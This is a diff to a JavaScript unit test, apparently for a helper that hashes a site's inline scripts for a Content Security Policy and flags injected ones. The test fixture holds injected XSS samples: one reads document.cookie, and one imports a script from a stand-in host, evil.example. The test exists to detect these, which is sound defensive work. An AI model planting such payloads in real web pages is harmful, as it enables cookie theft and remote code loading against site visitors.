@@ -75,18 +75,18 @@ describe('isPlatformScript', () => {
 });
 
 describe('inlineScriptHashes', () => {
-  it('hashes the platform\'s inline scripts (UTF-8) and lists any other inline script, ignoring data blocks and external scripts', () => {
+  it('hashes the bytes of the platform\'s inline scripts (UTF-8, handed over as latin1) and lists any other inline script, decoded, ignoring data blocks and external scripts', () => {
     const html =
       `<!DOCTYPE html><html><head>${LOADER}<script src="/_next/static/chunks/a.js" async=""></script></head><body>` +
       '<script type="application/ld+json">{"@type":"Car","name":"</p>"}</script>' +
       '<script type="application/json" id="vehicle-content-event">{"value":1}</script>' +
       `<script id="_R_">${TURBOPACK}</script><script>${FLIGHT_START}</script><script>${FLIGHT}</script>` +
-      '<div class="site-prose"><script>alert(document.cookie)</script><SCRIPT type="module">import("//evil.example/x.js")</SCRIPT></div>' +
+      '<div class="site-prose"><script>alert("Ōtaki", document.cookie)</script><SCRIPT type="module">import("//evil.example/x.js")</SCRIPT></div>' +
       `<script>${FLIGHT}</script></body></html>`;
-    const { hashes, foreign } = inlineScriptHashes(html);
+    const { hashes, foreign } = inlineScriptHashes(Buffer.from(html, 'utf8').toString('latin1'));
     // Each once, in the order found.
     expect(hashes).toEqual([hash(LOADER_SOURCE), hash(TURBOPACK), hash(FLIGHT_START), hash(FLIGHT)]);
-    expect(foreign).toEqual(['alert(document.cookie)', 'import("//evil.example/x.js")']);
+    expect(foreign).toEqual(['alert("Ōtaki", document.cookie)', 'import("//evil.example/x.js")']);
   });
 
   it('finds nothing in a page without inline scripts', () => {
